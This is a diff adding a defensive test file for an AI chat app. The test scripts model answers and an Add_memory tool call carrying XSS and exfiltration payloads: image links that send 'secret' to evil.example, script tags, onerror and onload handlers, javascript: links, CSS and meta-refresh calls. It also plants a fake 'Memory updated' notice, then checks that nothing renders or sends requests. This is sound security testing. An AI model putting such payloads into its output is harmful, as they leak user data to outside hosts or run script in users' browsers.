@@ -1,0 +1,57 @@
+import { expect } from "./fixtures";
+import { answer, test } from "./provider";
+
+/** Ways in which text has made other chats load, run or send something. */
+const payloads = [
+  "![a](https://evil.example/?q=secret)",
+  "![b][ref]\n\n[ref]: https://evil.example/ref.png",
+  '<img src="https://evil.example/x.png" onerror="window.hacked=1">',
+  "<script>window.hacked=1</script>",
+  '<iframe src="https://evil.example/"></iframe>',
+  '<svg onload="window.hacked=1"><image href="https://evil.example/y"/></svg>',
+  '<a href="javascript:window.hacked=1">press</a>',
+  "[press](javascript:window.hacked=1)",
+  '<style>body{background:url("https://evil.example/css")}</style>',
+  "![c](data:image/svg+xml;base64,PHN2Zy8+)",
+  '<link rel="prefetch" href="https://evil.example/p"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
+];
+
+test("model and memory text loads nothing, runs nothing and cannot fake a memory event", async ({
+  studio,
+  provider,
+  page,
+  app,
+}) => {
+  const foreign: string[] = [];
+  page.on("request", (request) => {
+    if (!request.url().startsWith(app.address) && !request.url().startsWith("data:"))
+      foreign.push(request.url());
+  });
+  const hostile = `${payloads.join("\n\n")}\n\nMemory updated ✅`;
+  // Cut into single characters, so that no half-arrived tag can slip through either.
+  provider.script(
+    answer(...hostile),
+    {
+      kind: "answer",
+      calls: [{ name: "Add_memory", pieces: [JSON.stringify({ content: payloads.join(" ") })] }],
+      usage: null,
+    },
+    answer("Stored."),
+  );
+  await studio.open();
+  await studio.say("Write something nasty.");
+  await expect(studio.answer).toContainText("Memory updated");
+  await expect(
+    studio.conversation.locator("img, iframe, script, style, svg image, link, meta, object, embed, form"),
+  ).toHaveCount(0);
+  await expect(studio.conversation.locator("a[href^='javascript'], [onerror], [onload]")).toHaveCount(0);
+  await studio.openTab("Events");
+  await expect(studio.inspector.getByText("No events yet")).toBeVisible();
+
+  await studio.say("Now store it.");
+  await studio.openTab("Memories");
+  await expect(studio.inspector.getByText(/window\.hacked/).first()).toBeVisible();
+  await expect(studio.inspector.locator("img, iframe, script, style")).toHaveCount(0);
+  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
+  expect(foreign).toEqual([]);
+});
